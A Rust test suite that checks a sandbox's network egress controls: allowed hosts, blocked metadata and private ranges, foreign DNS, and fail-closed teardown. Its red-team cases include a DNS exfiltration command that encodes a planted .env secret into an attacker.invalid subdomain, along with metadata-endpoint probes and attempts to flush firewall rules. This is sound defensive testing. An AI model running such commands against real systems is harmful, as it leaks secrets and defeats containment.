//! The network path against a real "internet": the test host at 203.0.113.10:8080 with its DNS
//! server on port 53 (a network namespace of its own beside the tests' one: run these tests inside
//! `scripts/test-host.sh run`), the host's loopback, its own addresses, metadata and private
//! ranges, and DNS. Each negative probe has a positive control.

// Tests fail loudly.
#![allow(clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use common::{Fixture, networked};
use spear_core::{ExecutionProfile, Guarantee, ToolStatus};
use spear_testkit::process::processes_with;

const TEST_HOST: &str = "http://203.0.113.10:8080/";

fn allowing_test_host() -> Fixture {
    spear_testkit::net::require_test_host();
    Fixture::with(|c| {
        c.sandbox.network.allow = vec!["203.0.113.10/32".parse().unwrap()];
        c.default_timeout = Duration::from_secs(20);
    })
}

fn http_code(f: &Fixture, profile: ExecutionProfile, url: &str) -> String {
    let r = f.run(
        profile,
        &format!("curl -s -m 4 -o /dev/null -w '%{{http_code}}' {url}"),
    );
    r.stdout.trim().to_owned()
}

/// A TCP server on the host that counts the connections it accepts.
fn counting_server(bind: &str) -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind(bind).unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let seen = count.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            seen.fetch_add(1, Ordering::SeqCst);
            let mut s = stream;
            let mut buf = [0u8; 512];
            let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
            let _ = s.read(&mut buf);
            let _ = std::io::Write::write_all(
                &mut s,
                b"HTTP/1.0 200 OK\r\ncontent-length: 2\r\n\r\nok",
            );
        }
    });
    (port, count)
}

#[test]
fn the_test_host_answers_only_through_an_allowed_network_path() {
    let f = allowing_test_host();
    assert_eq!(
        http_code(&f, networked(), TEST_HOST),
        "200",
        "positive control: allowed and networked"
    );
    assert_eq!(
        http_code(&f, common::writable(), TEST_HOST),
        "000",
        "a closed sandbox has loopback only"
    );
    let strict = Fixture::new();
    assert_eq!(
        http_code(&strict, networked(), TEST_HOST),
        "000",
        "documentation ranges are refused by default"
    );
    let port_only =
        Fixture::with(|c| c.sandbox.network.allow = vec!["203.0.113.10:8080".parse().unwrap()]);
    assert_eq!(
        http_code(&port_only, networked(), TEST_HOST),
        "200",
        "host:port allowance"
    );
    assert_eq!(
        http_code(&port_only, networked(), "http://203.0.113.10:8081/"),
        "000",
        "another port of that host"
    );
}

#[test]
fn the_hosts_loopback_and_own_addresses_are_unreachable() {
    let f = allowing_test_host();
    let (port, count) = counting_server("0.0.0.0:0");
    // Positive control: the server answers on the host.
    let out = std::process::Command::new("curl")
        .args(["-s", "-m", "3", &format!("http://127.0.0.1:{port}/")])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "ok");
    let before = count.load(Ordering::SeqCst);
    let own: Vec<String> = std::fs::read_to_string("/proc/net/fib_trie")
        .unwrap()
        .lines()
        .collect::<Vec<_>>()
        .windows(2)
        .filter(|w| w[1].contains("/32 host LOCAL"))
        .filter_map(|w| w[0].trim().strip_prefix("|-- ").map(str::to_owned))
        .collect();
    assert!(!own.is_empty());
    let mut targets = vec![format!("127.0.0.1:{port}"), format!("10.0.2.2:{port}")];
    targets.extend(own.iter().map(|a| format!("{a}:{port}")));
    for target in &targets {
        assert_eq!(
            http_code(&f, networked(), &format!("http://{target}/")),
            "000",
            "{target}"
        );
    }
    assert_eq!(
        count.load(Ordering::SeqCst),
        before,
        "the host server saw no connection from a sandbox"
    );
    // And the same sandbox reaches the allowed test host, so the probes could have connected.
    assert_eq!(http_code(&f, networked(), TEST_HOST), "200");
}

/// Curls each refused address and prints its HTTP code (000: no connection).
const CURLS: &str = r#"for a in 169.254.169.254 100.100.100.200 10.0.0.1 172.16.0.1 192.168.1.1 100.64.0.1; do curl -s -m 3 -o /dev/null -w "$a %{http_code}\n" http://$a/; done"#;

/// Sends a DNS query to public resolvers and to slirp's, and says what happened.
const DNS_PROBE: &str = r"import socket
q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01'
for server in ('8.8.8.8', '1.1.1.1', '10.0.2.3'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(q, (server, 53))
        s.recv(512)
        print(server, 'answered')
    except OSError as e:
        refused = isinstance(e, (ConnectionRefusedError, PermissionError))
        print(server, 'refused' if refused else 'no-answer', e.errno)
";

#[test]
fn metadata_private_ranges_and_foreign_dns_are_refused() {
    let f = allowing_test_host();
    let script = format!("{CURLS}\npython3 - <<'PY'\n{DNS_PROBE}PY\n");
    let r = f.run(networked(), &script);
    for a in [
        "169.254.169.254",
        "100.100.100.200",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.1.1",
        "100.64.0.1",
    ] {
        assert!(r.stdout.contains(&format!("{a} 000")), "{a}: {r:?}");
    }
    assert!(r.stdout.contains("8.8.8.8 refused"), "{r:?}");
    assert!(r.stdout.contains("1.1.1.1 refused"), "{r:?}");
    // Positive control: the query to slirp's resolver passes the policy, and is answered (slirp
    // forwards it to the test network's resolver).
    assert!(r.stdout.contains("10.0.2.3 answered"), "{r:?}");
}

#[test]
fn networked_sandboxes_name_slirps_resolver_and_closed_ones_have_loopback_only() {
    let f = allowing_test_host();
    let r = f.run(
        networked(),
        "cat /etc/resolv.conf; ip -o link | cut -d: -f2",
    );
    assert!(r.stdout.contains("nameserver 10.0.2.3"), "{r:?}");
    assert!(r.stdout.contains("tap0"), "{r:?}");
    // The guarantee bits say the same: filtered through slirp4netns, not closed.
    let bits = r.guarantees.unwrap().enforced;
    assert!(bits.contains(Guarantee::NetworkFiltered), "{bits:?}");
    assert!(!bits.contains(Guarantee::NetworkClosed), "{bits:?}");
    let r = f.auto("ip -o link | cut -d: -f2; cat /etc/resolv.conf");
    assert!(!r.stdout.contains("tap0"), "{r:?}");
    assert!(r.stdout.contains("lo"), "{r:?}");
    assert!(!r.stdout.contains("nameserver"), "{r:?}");
    let bits = r.guarantees.unwrap().enforced;
    assert!(bits.contains(Guarantee::NetworkClosed), "{bits:?}");
    assert!(!bits.contains(Guarantee::NetworkFiltered), "{bits:?}");
}

#[test]
fn names_resolve_through_slirps_resolver_in_networked_sandboxes_only() {
    let f = allowing_test_host();
    // The test network's resolver names every host 203.0.113.10; curl's exit code 6 is "could not
    // resolve host".
    let probe =
        "curl -s -m 4 -o /dev/null -w '%{http_code} %{exitcode}' http://test-host.example:8080/";
    let r = f.run(networked(), probe);
    assert_eq!(r.stdout.trim(), "200 0", "positive control: {r:?}");
    let r = f.run(common::writable(), probe);
    assert_eq!(
        r.stdout.trim(),
        "000 6",
        "a closed sandbox resolves nothing: {r:?}"
    );
}

#[test]
fn the_sandbox_cannot_change_its_egress_policy() {
    let f = allowing_test_host();
    let r = f.run(
        networked(),
        "nft flush ruleset; echo flush=$?; ip route add 169.254.0.0/16 dev tap0; echo route=$?; \
         curl -s -m 3 -o /dev/null -w 'meta %{http_code}\\n' http://169.254.169.254/",
    );
    assert!(r.stdout.contains("meta 000"), "{r:?}");
    assert!(!r.stdout.contains("flush=0"), "{r:?}");
    assert!(!r.stdout.contains("route=0"), "{r:?}");
}

#[test]
fn listeners_inside_stay_inside_and_die_with_the_call() {
    let f = allowing_test_host();
    let r = f.run(
        networked(),
        "python3 -m http.server 18000 --bind 0.0.0.0 >/dev/null 2>&1 & sleep 1; \
         curl -s -m 3 -o /dev/null localhost:18000 && echo up",
    );
    assert!(
        r.stdout.contains("up"),
        "positive control: reachable inside: {r:?}"
    );
    let out = std::process::Command::new("curl")
        .args([
            "-s",
            "-m",
            "2",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "http://127.0.0.1:18000/",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "000",
        "not reachable from the host"
    );
    assert!(processes_with("http.server 18000").is_empty());
}

#[test]
fn every_sandbox_net_red_team_case() {
    let cases: Vec<serde_json::Value> =
        include_str!("../../../testdata/redteam-public-cases.jsonl")
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).unwrap())
            .filter(|c: &serde_json::Value| c["target"] == "sandbox-net")
            .collect();
    assert!(cases.len() >= 3);
    for case in &cases {
        let id = case["id"].as_str().unwrap();
        let command = case["input"]
            .as_str()
            .or_else(|| case["input"]["command"].as_str())
            .unwrap();
        let f = allowing_test_host();
        std::fs::write(f.ws.join(".env"), "SECRET=spear-exfil-test\n").unwrap();
        match id {
            "NET-01" => {
                let (port, count) = counting_server("127.0.0.1:0");
                let script = command.replace("{PORT}", &port.to_string());
                let r = f.run(networked(), &script);
                assert_ne!(r.status, ToolStatus::Ok, "{id}: {r:?}");
                assert_eq!(
                    count.load(Ordering::SeqCst),
                    0,
                    "{id}: the host server saw a connection"
                );
                // Positive control: the server is there, and the sandbox has a network.
                let out = std::process::Command::new("curl")
                    .args(["-s", "-m", "3", &format!("http://127.0.0.1:{port}/")])
                    .output()
                    .unwrap();
                assert_eq!(String::from_utf8_lossy(&out.stdout), "ok");
                assert_eq!(http_code(&f, networked(), TEST_HOST), "200");
            }
            "NET-04" => {
                // nslookup is not on every machine; the same query, as python sends it.
                let name = "$(head -c 30 .env | base64 | tr -d '=+/').attacker.invalid";
                assert!(
                    command.contains(name) && command.ends_with("10.0.2.3"),
                    "{id}: {command}"
                );
                let probe = |server: &str| {
                    format!(
                        "python3 -c \"import socket,struct,sys\nname=sys.argv[1]\nq=struct.pack('>HHHHHH',1,256,1,0,0,0)+b''.join(bytes([len(p)])+p.encode() for p in name.split('.'))+b'\\0\\0\\1\\0\\1'\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(3)\ns.sendto(q,('{server}',53))\nprint('sent')\" {name}"
                    )
                };
                // Closed: no resolver is reachable at all; the query cannot even be sent.
                let r = f.run(common::writable(), &probe("10.0.2.3"));
                assert!(!r.stdout.contains("sent"), "{id}: {r:?}");
                // Positive control: networked, the query goes to slirp's resolver...
                let r = f.run(networked(), &probe("10.0.2.3"));
                assert!(r.stdout.contains("sent"), "{id}: {r:?}");
                // ...and nowhere else: another resolver is refused outright, not just unanswered.
                let r = f.run(networked(), &format!("python3 - <<'PY'\n{DNS_PROBE}PY\n"));
                assert!(r.stdout.contains("8.8.8.8 refused"), "{id}: {r:?}");
            }
            "NET-07" => {
                let r = f.run(networked(), command);
                assert!(r.stdout.contains("up"), "{id}: reachable inside: {r:?}");
                let out = std::process::Command::new("curl")
                    .args([
                        "-s",
                        "-m",
                        "2",
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{http_code}",
                        "http://127.0.0.1:8000/",
                    ])
                    .output()
                    .unwrap();
                assert_ne!(
                    String::from_utf8_lossy(&out.stdout),
                    "200",
                    "{id}: reachable from the host"
                );
                assert!(
                    processes_with("http.server 8000").is_empty(),
                    "{id}: the listener survived"
                );
            }
            other => panic!("a new sandbox-net case {other} needs an expectation here"),
        }
    }
}

/// A fake slirp4netns: the first time (the network preflight) the real one; after that it reports
/// ready and then freezes itself in a freezer cgroup of its own, where SIGKILL cannot end it: its
/// teardown cannot be confirmed.
fn unkillable_slirp(dir: &std::path::Path) -> (std::path::PathBuf, std::path::PathBuf) {
    let own = std::fs::read_to_string("/proc/self/cgroup")
        .unwrap()
        .lines()
        .find_map(|l| {
            let mut parts = l.splitn(3, ':');
            let (_, names, path) = (parts.next()?, parts.next()?, parts.next()?);
            names
                .split(',')
                .any(|n| n == "freezer")
                .then(|| path.to_owned())
        })
        .expect("a cgroup v1 freezer");
    let freezer = std::path::PathBuf::from(format!(
        "/sys/fs/cgroup/freezer{}/spear-unkillable-{}",
        own.trim_end_matches('/'),
        std::process::id()
    ));
    let script = dir.join("slirp4netns");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nif [ ! -e {o} ]; then : > {o}; exec /usr/bin/slirp4netns \"$@\"; fi\nmkdir -p {d}\necho $$ > {d}/cgroup.procs\nprintf 1 >&5\necho FROZEN > {d}/freezer.state\nsleep 1000\n",
            o = dir.join("once").display(),
            d = freezer.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    (script, freezer)
}

/// Thaws and removes the fake's freezer cgroup when the test ends, also when it fails: the frozen
/// fake's pending SIGKILL then lands.
struct Thaw(std::path::PathBuf);

impl Drop for Thaw {
    fn drop(&mut self) {
        if self.0.exists() {
            let _ = std::fs::write(self.0.join("freezer.state"), "THAWED");
            for _ in 0..100 {
                if std::fs::remove_dir(&self.0).is_ok() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

#[test]
fn an_unconfirmed_teardown_poisons_the_network_for_good() {
    let tmp = tempfile::tempdir().unwrap();
    let (fake, freezer) = unkillable_slirp(tmp.path());
    let _thaw = Thaw(freezer);
    let f = Fixture::with(|c| c.sandbox.network.slirp4netns = fake.clone());
    let r = f.run(networked(), "echo ran");
    assert!(r.stdout.contains("ran"), "{r:?}");
    assert_eq!(r.status, ToolStatus::Failed, "{r:?}");
    assert!(
        r.reason
            .clone()
            .unwrap_or_default()
            .contains("network containment failed"),
        "{r:?}"
    );
    assert!(f.runner.sandbox().network_containment_failed());
    // Its guarantees say so: the network was not filtered to the end (slirp4netns outlived it).
    let bits = r.guarantees.unwrap().enforced;
    assert!(!bits.contains(Guarantee::NetworkFiltered), "{bits:?}");
    assert!(bits.contains(Guarantee::ProcessBoundary), "{bits:?}");
    // Every later networked request is refused, with nothing run...
    let r = f.run(networked(), "touch net-marker");
    assert_eq!(r.status, ToolStatus::Failed);
    assert!(
        r.reason
            .clone()
            .unwrap_or_default()
            .contains("refuses every networked command"),
        "{r:?}"
    );
    assert!(!f.ws.join("net-marker").exists());
    // ...while closed commands still run.
    let r = f.run(common::writable(), "touch closed-marker");
    assert_eq!(r.status, ToolStatus::Ok, "{r:?}");
    assert!(f.ws.join("closed-marker").exists());
    // Positive control of the fault: a fresh sandbox with the real slirp4netns tears down fine.
    let healthy = allowing_test_host();
    let r = healthy.run(networked(), "echo ran");
    assert_eq!(r.status, ToolStatus::Ok, "{r:?}");
    assert!(!healthy.runner.sandbox().network_containment_failed());
    assert!(
        r.guarantees
            .unwrap()
            .enforced
            .contains(Guarantee::NetworkFiltered)
    );
}

#[test]
fn a_missing_or_failing_egress_mechanism_fails_closed() {
    // Missing tools: refused before anything is spawned, and remembered.
    for (edit, missing) in [
        (
            (|c: &mut spear_runtime::RunnerConfig| {
                c.sandbox.network.nft = "/nonexistent/nft".into();
            }) as fn(&mut spear_runtime::RunnerConfig),
            "/nonexistent/nft",
        ),
        (
            |c| c.sandbox.network.slirp4netns = "/nonexistent/slirp4netns".into(),
            "/nonexistent/slirp4netns",
        ),
    ] {
        let f = Fixture::with(edit);
        let r = f.run(networked(), "touch net-marker");
        assert_eq!(r.status, ToolStatus::Failed, "{r:?}");
        assert!(
            r.reason.clone().unwrap_or_default().contains(missing),
            "{r:?}"
        );
        assert!(!f.ws.join("net-marker").exists());
        let r = f.run(common::writable(), "touch closed-marker");
        assert_eq!(r.status, ToolStatus::Ok, "positive control: {r:?}");
    }
    // An nft that refuses the rules: the command, already held in its sandbox, never runs.
    let tmp = tempfile::tempdir().unwrap();
    let fake = tmp.path().join("nft");
    std::fs::write(
        &fake,
        "#!/bin/sh\necho 'Error: refused for the test' >&2\nexit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let f = Fixture::with(|c| c.sandbox.network.nft = fake.clone());
    let r = f.run(networked(), "touch net-marker");
    assert_eq!(r.status, ToolStatus::Failed, "{r:?}");
    assert!(
        r.reason
            .clone()
            .unwrap_or_default()
            .contains("egress policy"),
        "{r:?}"
    );
    assert!(!f.ws.join("net-marker").exists());
}
